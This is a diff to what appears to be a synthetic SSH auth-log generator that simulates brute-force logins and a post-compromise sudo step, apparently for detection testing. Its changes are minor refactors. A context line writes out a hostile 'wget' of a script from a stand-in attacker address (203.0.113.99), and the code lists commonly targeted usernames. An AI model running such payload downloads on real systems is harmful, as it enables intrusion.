@@ -20,6 +20,7 @@ from datetime import datetime, timedelta, timezone
 ICT = timezone(timedelta(hours=7), "ICT")
 SCANNER_NET = ipaddress.ip_network("198.51.100.0/24")
 SCANNED_USERS = ("admin", "test", "oracle", "ubuntu", "user", "ftpuser", "postgres", "git", "pi", "guest")
+KEY_ALPHABET = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz0123456789"
 SUDO_COMMANDS = ("/usr/bin/systemctl restart nginx", "/usr/bin/apt-get update", "/usr/bin/journalctl -u sshd",
                  "/usr/bin/tail -n 100 /var/log/nginx/error.log", "/usr/sbin/nginx -t")
 
@@ -78,8 +79,8 @@ def _admin_login(w: _Writer, ts: datetime) -> None:
         w.emit(ts, "sshd", f"Failed password for {user} from {ip} port {w.port()} ssh2", pid)
         ts += timedelta(seconds=w.rng.uniform(2, 9))
     method = w.rng.choice(("publickey", "publickey", "password"))
-    key = " ED25519 SHA256:" + "".join(w.rng.choices("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz0123456789", k=43))
-    w.emit(ts, "sshd", f"Accepted {method} for {user} from {ip} port {w.port()} ssh2" + (key if method == "publickey" else ""), pid)
+    key = " ED25519 SHA256:" + "".join(w.rng.choices(KEY_ALPHABET, k=43)) if method == "publickey" else ""
+    w.emit(ts, "sshd", f"Accepted {method} for {user} from {ip} port {w.port()} ssh2{key}", pid)
     w.emit(ts, "sshd", f"pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)", pid)
     if w.rng.random() < 0.5:
         command = w.rng.choice(SUDO_COMMANDS)
@@ -113,8 +114,9 @@ def _attack(w: _Writer, attack: Attack) -> None:
         ts += timedelta(seconds=attack.seconds_between * w.rng.uniform(0.5, 1.5))
     if attack.success_user:
         pid = w.next_pid()
-        w.emit(ts, "sshd", f"Accepted password for {attack.success_user} from {attack.source} port {w.port()} ssh2", pid)
-        w.emit(ts, "sshd", f"pam_unix(sshd:session): session opened for user {attack.success_user}(uid=1000) by (uid=0)", pid)
+        user = attack.success_user
+        w.emit(ts, "sshd", f"Accepted password for {user} from {attack.source} port {w.port()} ssh2", pid)
+        w.emit(ts, "sshd", f"pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)", pid)
         w.emit(ts + timedelta(seconds=40), "sudo", f"{attack.success_user} : TTY=pts/1 ; PWD=/home/"
                f"{attack.success_user} ; USER=root ; COMMAND=/usr/bin/wget -q http://203.0.113.99/x.sh", w.next_pid())
 
